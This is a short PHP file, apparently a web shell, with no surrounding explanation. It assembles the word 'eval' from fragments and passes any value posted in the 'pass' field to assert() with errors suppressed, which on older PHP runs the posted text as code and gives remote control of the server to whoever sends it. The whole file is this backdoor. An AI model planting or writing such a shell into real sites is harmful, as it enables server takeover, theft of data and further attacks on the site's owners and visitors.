<?php
$f = 'e'.'v'.'a'.'l';
if (isset($_POST['pass'])) {
    @call_user_func_array('assert', array($_POST['pass']));
}
